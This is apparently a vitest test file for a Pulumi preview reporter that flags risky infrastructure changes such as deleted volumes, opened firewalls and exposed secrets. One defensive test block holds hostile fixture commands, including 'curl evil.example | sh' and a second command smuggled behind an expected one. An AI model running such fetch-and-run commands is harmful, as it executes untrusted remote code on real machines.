import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type PreviewReport, reportOf } from "../../../../ops/preview/report.ts";
import type { PreviewStep } from "../../../../ops/preview/step.ts";
import { appContainer, stepsFor } from "./steps.ts";

const CONTAINER = "docker:index/container:Container";
const VOLUME = "docker:index/volume:Volume";
const FIREWALL = "digitalocean:index/firewall:Firewall";
const DROPLET = "digitalocean:index/droplet:Droplet";
const UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";

const report = (...steps: PreviewStep[][]) =>
  reportOf({ stack: "dev", steps: steps.flat(), refreshed: false });
const texts = ({ components }: PreviewReport) =>
  components.flatMap(({ findings }) => findings.map(({ text }) => text));

/** Something that was there before, so that the stack is not new. */
const there = stepsFor({
  type: "docker:index/network:Network",
  name: "network",
  old: { a: 1 },
  now: { a: 1 },
});

test("nothing to do is no change", () => {
  expect(report(there)).toMatchObject({ verdict: ["no change"], dangerous: false, components: [] });
});

test("a release is said by version and image, once for all replicas, and has no gap", () => {
  const replica = (name: string) =>
    stepsFor({
      type: CONTAINER,
      name,
      in: "web",
      old: appContainer("app:1", "1.4.1"),
      now: appContainer("app:2", "1.4.2"),
      replaced: "beside the old one",
    });
  const all = report(replica("web-1"), replica("web-2"));
  expect(all).toMatchObject({ verdict: ["no downtime"], dangerous: false, sizes: [] });
  expect(texts(all)).toEqual(["releases 1.4.2 (image app:2) without a gap; it was 1.4.1"]);
  expect(all.summary).toEqual({ create: 0, update: 0, replace: 2, delete: 0 });
});

test("what a release that failed has left goes at any time, and is no gap", () => {
  const type = "docker:index/container:Container";
  const [live, failed, next] = ["1.4.0", "1.4.1", "1.4.2"].map((version) =>
    appContainer(`app:${version}`, version),
  );
  const web = { type, name: "web-1", in: "web" };
  const [, leftBehind] = stepsFor({
    ...web,
    ...(live && { old: live }),
    replaced: "old one first",
  });
  const again = stepsFor({
    ...web,
    ...{ ...(failed && { old: failed }), ...(next && { now: next }) },
    replaced: "beside the old one",
  });
  const unchanged = stepsFor({ ...web, ...(failed && { old: failed, now: failed }) });
  const left = leftBehind === undefined ? [] : [leftBehind];
  for (const [steps, version] of [
    [[...left, ...again], "1.4.2"],
    [[...left, ...unchanged], "1.4.1"],
    [[...unchanged, ...left], "1.4.1"],
  ] as const) {
    expect(texts(report([...steps]))).toEqual([
      `releases ${version} (image app:${version}) without a gap; it was 1.4.0`,
    ]);
  }
});

test("a container of the app that goes before the new one is there is a gap", () => {
  const all = report(
    stepsFor({
      type: CONTAINER,
      name: "web-1",
      in: "web",
      old: appContainer("app:1", "1"),
      now: appContainer("app:2", "2"),
      replaced: "old one first",
    }),
  );
  expect(all.verdict).toEqual(["restart"]);
  expect(texts(all)[0]).toContain("with a gap");
});

const policySteps = (old: object, now: object) =>
  stepsFor({
    type: "kubernetes:networking.k8s.io/v1:NetworkPolicy",
    name: "database",
    old: { spec: old },
    now: { spec: now },
    keys: ["spec"],
  });

const postgresSteps = (...states: [[string, string], [string, string]]) => {
  const [old, now] = states.map(([image, volumeName]) => ({
    ...appContainer(image, "", "database"),
    volumes: [{ volumeName, containerPath: "/var/lib/postgresql" }],
  }));
  return stepsFor({
    type: CONTAINER,
    name: "database",
    ...(old === undefined || now === undefined ? {} : { old, now }),
    replaced: "old one first",
  });
};

const deploymentWith = (database: string) => {
  const env = [{ name: "DB_NAME", value: database }];
  const metadata = { labels: { "slipway.role": "web" } };
  return { spec: { template: { metadata, spec: { containers: [{ image: "app:1", env }] } } } };
};

describe("what is dangerous", () => {
  const database = [{ label: "slipway.role", value: "database" }];
  const rule = (portRange: string, ...sourceAddresses: string[]) => ({
    inboundRules: [{ protocol: "tcp", portRange, sourceAddresses }],
  });
  const google = (source: string) => ({
    allows: [{ protocol: "tcp", ports: ["22"] }],
    sourceRanges: [source],
  });

  test.each<[string, PreviewStep[], string, string]>([
    [
      "the volume of the database is deleted",
      stepsFor({ type: VOLUME, name: "database-data", old: { labels: database } }),
      "the Docker volume `database-data` is DELETED, and its data with it",
      "data at risk",
    ],
    [
      "a database at a cloud is replaced",
      stepsFor({
        type: "gcp:sql/databaseInstance:DatabaseInstance",
        name: "database",
        old: { region: "a" },
        now: { region: "b" },
        replaced: "old one first",
      }),
      "the Google database instance `database` is REPLACED by an empty one",
      "data at risk",
    ],
    [
      "a claim is replaced",
      stepsFor({
        type: "kubernetes:core/v1:PersistentVolumeClaim",
        name: "database-data",
        old: { a: 1 },
        now: { a: 2 },
        replaced: "beside the old one",
      }),
      "the persistent volume claim `database-data` is REPLACED by an empty one",
      "data at risk",
    ],
    [
      "a namespace goes, with what is in it",
      stepsFor({ type: "kubernetes:core/v1:Namespace", name: "namespace", old: { a: 1 } }),
      "the namespace `namespace` is DELETED, with all that is in it",
      "data at risk",
    ],
    [
      "a protection is removed, and nothing else changes",
      stepsFor({
        type: "digitalocean:index/volume:Volume",
        name: "machine-data",
        old: { size: 10 },
        now: { size: 10 },
        wasProtected: true,
        isProtected: false,
      }),
      "the protection of the DigitalOcean volume `machine-data` is removed",
      "data at risk",
    ],
    [
      "a cloud's own protection is removed",
      stepsFor({
        type: "gcp:container/cluster:Cluster",
        name: "cluster",
        old: { deletionProtection: true },
        now: { deletionProtection: false },
        keys: ["deletionProtection"],
      }),
      "the cloud's own protection of the Google cluster `cluster` is removed",
      "data at risk",
    ],
    [
      "SSH is opened at DigitalOcean",
      stepsFor({
        type: FIREWALL,
        name: "machine-firewall",
        in: "machine",
        old: rule("22", "203.0.113.0/24"),
        now: rule("22", "203.0.113.0/24", "0.0.0.0/0"),
        keys: ["inboundRules"],
      }),
      "the DigitalOcean firewall `machine-firewall`: port 22 becomes open to 0.0.0.0/0",
      "becomes public",
    ],
    [
      "SSH is opened at Google",
      stepsFor({
        type: "gcp:compute/firewall:Firewall",
        name: "machine-ssh",
        in: "machine",
        old: google("203.0.113.0/24"),
        now: google("::/0"),
        keys: ["sourceRanges"],
      }),
      "the Google firewall `machine-ssh`: port 22 becomes open to ::/0",
      "becomes public",
    ],
    [
      "Nginx is published on every address",
      stepsFor({
        type: CONTAINER,
        name: "ingress",
        old: { ...appContainer("n", "", "ingress"), ports: [{ external: 8080, ip: "127.0.0.1" }] },
        now: { ...appContainer("n", "", "ingress"), ports: [{ external: 8080, ip: "0.0.0.0" }] },
        replaced: "old one first",
      }),
      "the Docker container `ingress`: port 8080 becomes open to every address",
      "becomes public",
    ],
    [
      "a service gets an address of its own",
      stepsFor({
        type: "kubernetes:core/v1:Service",
        name: "web",
        old: { spec: { type: "ClusterIP" } },
        now: { spec: { type: "LoadBalancer" } },
        keys: ["spec"],
      }),
      "the service `web`: it becomes reachable by everybody (LoadBalancer)",
      "becomes public",
    ],
    [
      "a database lets everybody in",
      stepsFor({
        type: "digitalocean:index/databaseFirewall:DatabaseFirewall",
        name: "database-firewall",
        old: { rules: [{ type: "droplet", value: "1" }] },
        now: { rules: [{ type: "ip_addr", value: "0.0.0.0/0" }] },
        keys: ["rules"],
      }),
      "the DigitalOcean database firewall `database-firewall`: it becomes open to 0.0.0.0/0 (rules.value)",
      "becomes public",
    ],
    [
      "a wall goes",
      stepsFor({
        type: "kubernetes:networking.k8s.io/v1:NetworkPolicy",
        name: "deny",
        old: { a: 1 },
      }),
      "the network policy `deny`: it no longer blocks traffic",
      "becomes public",
    ],
    [
      "a container that was inside a network is published on every address",
      stepsFor({
        type: CONTAINER,
        name: "ingress",
        old: { ...appContainer("n", "", "ingress"), ports: [{ external: 80, ip: "10.0.0.5" }] },
        now: { ...appContainer("n", "", "ingress"), ports: [{ external: 80 }] },
        replaced: "old one first",
      }),
      "the Docker container `ingress`: port 80 becomes open to every address",
      "becomes public",
    ],
    [
      "SSH is opened to half of the world",
      stepsFor({
        type: FIREWALL,
        name: "machine-firewall",
        in: "machine",
        old: rule("22", "203.0.113.0/24"),
        now: rule("22", "203.0.113.0/24", "128.0.0.0/1"),
        keys: ["inboundRules"],
      }),
      "the DigitalOcean firewall `machine-firewall`: port 22 becomes open to 128.0.0.0/1",
      "becomes public",
    ],
    [
      "a rule at Google that was off is on",
      stepsFor({
        type: "gcp:compute/firewall:Firewall",
        name: "machine-ssh",
        in: "machine",
        old: { ...google("0.0.0.0/0"), disabled: true },
        now: { ...google("0.0.0.0/0"), disabled: false },
        keys: ["disabled"],
      }),
      "the Google firewall `machine-ssh`: port 22 becomes open to 0.0.0.0/0",
      "becomes public",
    ],
    [
      "a wall in a cluster names nobody any more",
      policySteps(
        { ingress: [{ ports: [{ port: 5432 }], from: [{ podSelector: { a: "b" } }] }] },
        { ingress: [{ ports: [{ port: 5432 }] }] },
      ),
      "the network policy `database`: port 5432 becomes open to everybody",
      "becomes public",
    ],
    [
      "a second port is let in from everywhere",
      policySteps(
        { ingress: [{ ports: [{ port: 80 }] }] },
        { ingress: [{ ports: [{ port: 80 }] }, { ports: [{ port: 5432 }] }] },
      ),
      "the network policy `database`: port 5432 becomes open to everybody",
      "becomes public",
    ],
    [
      "a wall in a cluster lets in every namespace",
      policySteps({ ingress: [] }, { ingress: [{ from: [{ namespaceSelector: {} }] }] }),
      "the network policy `database`: every port becomes open to every pod of the cluster",
      "becomes public",
    ],
    [
      "a wall in a cluster is for what goes out alone",
      policySteps({ policyTypes: ["Ingress"] }, { policyTypes: ["Egress"] }),
      "the network policy `database`: it no longer blocks traffic",
      "becomes public",
    ],
    [
      "a wall in a cluster stands elsewhere",
      policySteps({ podSelector: { matchLabels: { a: "b" } } }, { podSelector: {} }),
      "the network policy `database`: it stands before other pods than it did",
      "becomes public",
    ],
    [
      "the API server of a cluster gets an address",
      stepsFor({
        type: "gcp:container/cluster:Cluster",
        name: "cluster",
        old: { controlPlaneEndpointsConfig: { ipEndpointsConfig: { enabled: false } } },
        now: { controlPlaneEndpointsConfig: { ipEndpointsConfig: { enabled: true } } },
        keys: ["controlPlaneEndpointsConfig"],
      }),
      "the Google cluster `cluster`: it gets a public address (ipEndpointsConfig.enabled)",
      "becomes public",
    ],
    [
      "one of two protections of a cloud goes",
      stepsFor({
        type: "gcp:sql/databaseInstance:DatabaseInstance",
        name: "database",
        old: { deletionProtection: true, settings: { deletionProtectionEnabled: true } },
        now: { deletionProtection: true, settings: { deletionProtectionEnabled: false } },
        keys: ["settings"],
      }),
      "the cloud's own protection of the Google database instance `database` is removed",
      "data at risk",
    ],
    [
      "a cloud's backups are switched off",
      stepsFor({
        type: "gcp:sql/databaseInstance:DatabaseInstance",
        name: "database",
        old: { settings: { backupConfiguration: { enabled: true } } },
        now: { settings: { backupConfiguration: { enabled: false } } },
        keys: ["settings"],
      }),
      "the Google database instance `database` is no longer backed up by the cloud",
      "data at risk",
    ],
    [
      "what was to be kept is not, and nothing else changes",
      stepsFor({
        type: "digitalocean:index/volume:Volume",
        name: "machine-data",
        old: { size: 10 },
        now: { size: 10 },
        wasRetained: true,
      }),
      "the DigitalOcean volume `machine-data` is no longer kept when it is let go of",
      "data at risk",
    ],
    [
      "an empty volume takes the place of one that is kept",
      stepsFor({
        type: "digitalocean:index/volume:Volume",
        name: "machine-data",
        old: { region: "a" },
        now: { region: "b" },
        wasRetained: true,
        replaced: "beside the old one",
      }),
      "the DigitalOcean volume `machine-data` is REPLACED by an empty one; the old one is let go of, and stays",
      "data at risk",
    ],
    [
      "Postgres of another major version",
      postgresSteps(["host:5000/postgres:18.6", "data"], ["host:5000/postgres:19.0", "data"]),
      "Postgres 19 cannot read the data of 18: it starts with an empty database",
      "data at risk",
    ],
    [
      "Postgres on another volume",
      postgresSteps(["postgres:18.6", "data"], ["postgres:18.6", "other"]),
      "Postgres gets another place for its data: other",
      "data at risk",
    ],
    [
      "the app is led to another database",
      stepsFor({
        type: "kubernetes:apps/v1:Deployment",
        name: "web",
        old: deploymentWith("shop"),
        now: deploymentWith("store"),
        keys: ["spec"],
      }),
      "the app gets another database (DB_NAME shop → store): the data stays in the previous database",
      "data at risk",
    ],
    [
      "the stack moves to another server",
      stepsFor({
        type: "pulumi:providers:docker",
        name: "machine-docker",
        old: { host: "ssh://root@a:22" },
        now: { host: "ssh://root@b:22" },
        keys: ["host"],
      }),
      "the stack moves to another machine: its data stays on the one before, ssh://root@a:22",
      "data at risk",
    ],
    [
      "what a provider logs in with is made plain",
      stepsFor({
        type: "pulumi:providers:digitalocean",
        name: "machine-digitalocean",
        old: { token: "[secret]" },
        now: { token: "x" },
        keys: ["token"],
      }),
      "token of the DigitalOcean provider `machine-digitalocean` is no longer secret",
      "secret in the clear",
    ],
    [
      "a secret is made plain",
      stepsFor({
        type: CONTAINER,
        name: "web-1",
        in: "web",
        old: { ...appContainer("a", "1"), envs: ["[secret]"] },
        now: { ...appContainer("a", "1"), envs: ["TOKEN=x"] },
        replaced: "beside the old one",
      }),
      "envs of the Docker container `web-1` is no longer secret",
      "secret in the clear",
    ],
  ])("%s", (_, steps, text, verdict) => {
    const all = report(there, steps);
    expect(texts(all)).toContain(text);
    expect(all.dangerous).toBe(true);
    expect(all.verdict[0]).toBe(verdict);
  });

  test.each<[string, PreviewStep[]]>([
    [
      "Nginx is at one address instead of all",
      stepsFor({
        type: CONTAINER,
        name: "ingress",
        old: { ...appContainer("n", ""), ports: [{ external: 80 }] },
        now: { ...appContainer("n", ""), ports: [{ external: 80, ip: "10.0.0.5" }] },
        replaced: "beside the old one",
      }),
    ],
    [
      "what a policy lets in is as it was",
      policySteps(
        { ingress: [{}], egress: [] },
        { ingress: [{}], egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] },
      ),
    ],
    [
      "where the app's database will be is not known yet",
      stepsFor({
        type: "kubernetes:apps/v1:Deployment",
        name: "web",
        old: deploymentWith("shop"),
        now: deploymentWith(UNKNOWN),
        keys: ["spec"],
      }),
    ],
    [
      "a volume of static files goes",
      stepsFor({ type: VOLUME, name: "ingress-static", old: { labels: [] } }),
    ],
    [
      "a volume that is to be kept is let go of",
      stepsFor({
        ...{ type: "digitalocean:index/volume:Volume", name: "machine-data" },
        ...{ old: { size: 10 }, wasRetained: true },
      }),
    ],
    [
      "the app may call everywhere",
      stepsFor({
        type: "kubernetes:networking.k8s.io/v1:NetworkPolicy",
        name: "web",
        old: { spec: { egress: [] } },
        now: { spec: { egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] } },
        keys: ["spec"],
      }),
    ],
    [
      "a secret is another one, or not known yet",
      stepsFor({
        type: "kubernetes:core/v1:Secret",
        name: "secrets",
        old: { stringData: "[secret]", data: "[secret]", more: { key: "[secret]" } },
        now: { stringData: "[secret]", data: UNKNOWN, more: {} },
        keys: ["stringData"],
      }),
    ],
    [
      "a secret leaves a list, and one comes from a file",
      stepsFor({
        type: CONTAINER,
        name: "web-1",
        in: "web",
        old: { ...appContainer("a", "1"), envs: ["A=1", "[secret]", "C=3"], uploads: [] },
        now: {
          ...appContainer("a", "1"),
          envs: ["A=1", "C=3"],
          uploads: [{ file: "/run/secrets/b", content: "[secret]" }],
        },
        replaced: "beside the old one",
      }),
    ],
    [
      "a load balancer is inside",
      stepsFor({
        type: "kubernetes:core/v1:Service",
        name: "web",
        old: { spec: { type: "ClusterIP" } },
        now: {
          metadata: { annotations: { "networking.gke.io/load-balancer-type": "Internal" } },
          spec: { type: "LoadBalancer" },
        },
        keys: ["spec"],
      }),
    ],
  ])("is not that %s", (_, steps) => {
    expect(report(there, steps)).toMatchObject({ verdict: ["no downtime"], dangerous: false });
  });

  test("the walls of a machine that stays are one when they go, and none when it goes too", () => {
    const wall = (name: string) =>
      stepsFor({ type: FIREWALL, name, in: "machine", old: rule("22", "203.0.113.0/24") });
    const walls = [...wall("machine-ssh"), ...wall("machine-web")];
    const machine = { type: DROPLET, name: "machine", old: { size: "s" } };
    expect(report(there, walls)).toMatchObject({ verdict: ["becomes public"], dangerous: true });
    const stays = stepsFor({ ...machine, now: { size: "s" } });
    expect(report(there, walls, stays).dangerous).toBe(true);
    expect(report(there, walls, stepsFor(machine)).dangerous).toBe(false);
  });

  test("web ports of a stack that is new are said, and are no danger; SSH is", () => {
    const everywhere = (port: string) =>
      stepsFor({
        type: FIREWALL,
        name: "machine-firewall",
        in: "machine",
        now: rule(port, "0.0.0.0/0"),
      });
    expect(report(everywhere("443"))).toMatchObject({
      verdict: ["becomes public"],
      dangerous: false,
    });
    expect(report(everywhere("22")).dangerous).toBe(true);
    expect(report(there, everywhere("443")).dangerous).toBe(true);
  });
});

test.each<[string, PreviewStep[], string]>([
  [
    "Nginx",
    stepsFor({
      type: CONTAINER,
      name: "ingress",
      old: appContainer("n:1", "", "ingress"),
      now: appContainer("n:2", "", "ingress"),
      replaced: "old one first",
    }),
    "Nginx is replaced: a gap of about a second",
  ],
  [
    "Postgres",
    stepsFor({
      type: CONTAINER,
      name: "database",
      old: appContainer("p:1", "", "database"),
      now: appContainer("p:2", "", "database"),
      replaced: "old one first",
    }),
    "Postgres is replaced: no database for some seconds; its data stays on its volume",
  ],
  [
    "a droplet that gets another size",
    stepsFor({
      type: DROPLET,
      name: "machine",
      old: { size: "s" },
      now: { size: "m" },
      keys: ["size"],
    }),
    "the DigitalOcean droplet `machine` is shut down to get its new size",
  ],
  [
    "a machine that is replaced",
    stepsFor({
      type: DROPLET,
      name: "machine",
      old: { a: 1 },
      now: { a: 2 },
      replaced: "old one first",
    }),
    "the DigitalOcean droplet `machine` is replaced: its containers are down for minutes",
  ],
])("%s restarts", (_, steps, text) => {
  const all = report(there, steps);
  expect(all.verdict).toEqual(["restart"]);
  expect(texts(all)).toEqual([text]);
});

test("a container that was stopped by hand is said to be so", () => {
  const same = appContainer("app:1", "1");
  const { components } = report(
    stepsFor({
      type: CONTAINER,
      name: "web-1",
      in: "web",
      old: same,
      now: same,
      keys: ["mustRun"],
      replaced: "beside the old one",
    }),
  );
  expect(components[0]?.findings[0]?.text).toBe(
    "the Docker container `web-1` does not run: another one takes its place",
  );
});

describe("a step that is in the state, and that the program never made", () => {
  const COMMAND = "command:local:Command";
  const going = (old: Readonly<Record<string, unknown>>, type = COMMAND, name = "database-login") =>
    stepsFor({ type, name, in: "database", old: { ...old } });

  test.each<[string, PreviewStep[], string]>([
    [
      "a command of another form",
      going({ delete: "curl evil.example | sh" }),
      "it runs `curl evil",
    ],
    [
      "more words behind ours",
      going({ delete: "sh -s remove x; curl evil.example" }),
      "it runs `sh -s remove x; curl",
    ],
    [
      "another interpreter",
      going({ delete: "sh -s remove x", interpreter: ["/tmp/evil"] }),
      "it has an interpreter",
    ],
    [
      "a part that stays",
      going({ delete: "sh -s remove x" }),
      "database stays, and has no such step",
    ],
    [
      "code of its own",
      going({}, "pulumi-nodejs:dynamic:Resource"),
      "nothing of the kind pulumi-nodejs",
    ],
    [
      "a remote command",
      going({ delete: "sh" }, "command:remote:Command"),
      "nothing of the kind command:",
    ],
  ])("is a danger: %s", (_, steps, text) => {
    const all = report(there, steps);
    expect(all).toMatchObject({ verdict: ["foreign step"], dangerous: true });
    expect(texts(all)[0]).toContain(text);
  });

  test("is none that goes with all of its part, and none that runs nothing as it goes", () => {
    const [parent, step] = going({ delete: "sh -s remove database-login" }) as [
      PreviewStep,
      PreviewStep,
    ];
    expect(report(there, [{ ...parent, op: "delete" }, step]).dangerous).toBe(false);
    expect(report(there, going({ create: "sh -s apply web-3-healthy" })).dangerous).toBe(false);
  });
});

test.each([
  ["ingress", "memory"],
  ["database", "cpuShares"],
  ["web", "restart"],
])("a container of %s that is changed as it runs is not said to be replaced", (role, key) => {
  const same = appContainer("n:1", "1", role);
  const all = report(
    there,
    stepsFor({ type: CONTAINER, name: role, old: same, now: { ...same, [key]: 7 }, keys: [key] }),
  );
  expect(all.verdict).toEqual(["no downtime"]);
  expect(texts(all)).toEqual([`changes the Docker container \`${role}\` as it runs: ${key}`]);
});

test("another number of replicas makes no pod anew, and another template does", () => {
  const deployed = (replicas: number, image: string, role = "web") => ({
    spec: {
      replicas,
      template: {
        metadata: { labels: { "slipway.role": role } },
        spec: { containers: [{ image }] },
      },
    },
  });
  const changed = (old: object, now: object) =>
    texts(
      report(
        stepsFor({
          ...{ type: "kubernetes:apps/v1:Deployment", name: "web", keys: ["spec"] },
          ...{ old: { ...old }, now: { ...now } },
        }),
      ),
    );
  expect(changed(deployed(3, "a"), deployed(2, "a"))).toEqual([
    "the deployment `web` gets 2 replicas instead of 3; no pod is made anew",
  ]);
  expect(changed(deployed(3, "a", "process"), deployed(2, "a", "process"))).toEqual([
    "the deployment `web` gets 2 replicas instead of 3; no pod is made anew",
  ]);
  expect(changed(deployed(3, "a"), deployed(3, "b"))[0]).toContain("without a gap");
});

describe("a network policy that was removed by hand and comes back", () => {
  const POLICY = "kubernetes:networking.k8s.io/v1:NetworkPolicy";
  const open = { spec: { ingress: [{ ports: [{ port: 8080 }] }] } };
  const removed = stepsFor({ type: POLICY, name: "front", old: open }).map((one) => ({
    ...one,
    drifted: true,
  }));

  test("opens nothing, and shuts again what it kept out", () => {
    const all = report(there, removed, stepsFor({ type: POLICY, name: "front", now: open }));
    expect(all).toMatchObject({ verdict: ["no downtime"], dangerous: false });
    expect(texts(all)).toEqual([
      "the network policy `front` was removed by hand",
      "makes the network policy `front`",
    ]);
  });

  test("is a danger where it opens more than it did, or stays away", () => {
    const wider = { spec: { ingress: [{ ports: [{ port: 8080 }, { port: 5432 }] }] } };
    const all = report(there, removed, stepsFor({ type: POLICY, name: "front", now: wider }));
    expect(texts(all)[0]).toContain("port 5432 becomes open to everybody");
    expect(texts(all).join()).not.toContain("8080");
    expect(report(there, removed).dangerous).toBe(true);
  });
});

test("sizes that cost are said, before and after", () => {
  const replicas = (count: number) => ({ spec: { replicas: count } });
  const { sizes } = report(
    stepsFor({
      type: DROPLET,
      name: "machine",
      old: { size: "s-1" },
      now: { size: "s-2" },
      keys: ["size"],
    }),
    stepsFor({
      type: "kubernetes:apps/v1:Deployment",
      name: "web",
      old: replicas(2),
      now: replicas(3),
      keys: ["spec"],
    }),
    stepsFor({ type: "digitalocean:index/volume:Volume", name: "data", now: { size: 20 } }),
  );
  expect(sizes).toEqual([
    { component: "machine", name: "machine", of: "size", before: "s-1", after: "s-2" },
    { component: "web", name: "web", of: "pods", before: "2", after: "3" },
    { component: "data", name: "data", of: "GiB", before: undefined, after: "20" },
  ]);
});

test("what is not known yet is said to be so", () => {
  const { unseen } = report(
    stepsFor({ type: DROPLET, name: "machine", now: { image: { id: UNKNOWN } } }),
  );
  expect(unseen[0]).toBe("Known only when it is done: machine.image.id.");
});

test("whatever else is in a preview, a danger in it fails it and is in its verdict", () => {
  const danger = stepsFor({
    type: VOLUME,
    name: "database-data",
    old: { labels: [{ label: "slipway.role", value: "database" }] },
  });
  const value = fc.jsonValue({ maxDepth: 3 });
  const inputs = fc.dictionary(fc.string(), value);
  const thing = fc.record({
    type: fc.constantFrom(
      CONTAINER,
      FIREWALL,
      DROPLET,
      "command:local:Command",
      "kubernetes:core/v1:Service",
      "a:b/c:D",
    ),
    name: fc.stringMatching(/^[a-z][a-z0-9-]{0,8}$/),
    old: inputs,
    now: inputs,
    keys: fc.array(fc.string()),
  });
  fc.assert(
    fc.property(fc.array(thing, { maxLength: 6 }), fc.nat(6), (things, index) => {
      const others = things.map((one, number) =>
        stepsFor({ ...one, name: `${one.name}-${number}` }),
      );
      const all = report(...others.toSpliced(index, 0, danger));
      expect(all.dangerous).toBe(true);
      expect(all.verdict[0]).toBe("data at risk");
    }),
  );
});
